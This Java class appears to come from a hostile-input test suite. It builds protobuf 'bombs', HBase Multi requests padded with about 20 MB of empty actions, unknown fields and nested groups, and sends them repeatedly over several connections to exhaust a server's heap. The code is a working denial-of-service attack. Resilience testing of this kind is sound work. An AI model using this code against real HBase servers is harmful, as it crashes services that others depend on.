package org.grampus.compat.suite.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.List;
import org.apache.hadoop.hbase.shaded.protobuf.generated.ClientProtos.RegionAction;
import org.apache.hbase.thirdparty.com.google.protobuf.CodedOutputStream;

/** Requests that are small on the wire and large as objects, several at once. */
final class ProtobufBombs implements Attack {
  private static final int BYTES = 20 << 20;

  /** Of empty actions as many as pass the estimate of a message on a heap of 512 MB. */
  private static final int ACTION_BYTES = 1_300_000;

  private static final int CONNECTIONS = 6;

  @Override
  public String name() {
    return "protobuf bombs";
  }

  private List<byte[]> bombs = List.of();

  @Override
  public void prepare(Victim victim) throws IOException {
    bombs =
        List.of(
            request(victim, filled(BYTES, (byte) 0x1a, (byte) 0)), // empty actions
            request(victim, filled(ACTION_BYTES, (byte) 0x1a, (byte) 0)), // each has an error
            request(victim, filled(BYTES, (byte) 0x78, (byte) 1)), // unknown numbers
            request(victim, filled(BYTES, (byte) 0x7b, (byte) 0x7c)), // unknown groups
            request(victim, nested()));
  }

  @Override
  public void run(Victim victim) throws Exception {
    while (!victim.isOver()) {
      for (byte[] bomb : bombs) {
        try (Connections connections = new Connections()) {
          int[] address = {0};
          connections.open(CONNECTIONS, () -> victim.connect(1 + address[0]++ / 3));
          connections.each(wire -> wire.send("Multi", bomb, new byte[0]));
          connections.each(Wire::skipReply);
          victim.pause();
        }
        if (victim.isOver()) {
          return;
        }
      }
    }
  }

  private static byte[] filled(int length, byte... pattern) {
    byte[] bytes = new byte[length];
    for (int i = 0; i < bytes.length; i++) {
      bytes[i] = pattern[i % pattern.length];
    }
    return bytes;
  }

  private static byte[] nested() {
    byte[] bytes = new byte[BYTES];
    Arrays.fill(bytes, (byte) 0x7b);
    return bytes;
  }

  /** One region action with these bytes behind its region. */
  private static byte[] request(Victim victim, byte[] more) throws IOException {
    ByteArrayOutputStream action = new ByteArrayOutputStream();
    RegionAction.newBuilder().setRegion(Victim.region(victim.small())).build().writeTo(action);
    action.write(more);
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    CodedOutputStream out = CodedOutputStream.newInstance(bytes);
    out.writeByteArray(1, action.toByteArray());
    out.flush();
    return bytes.toByteArray();
  }
}
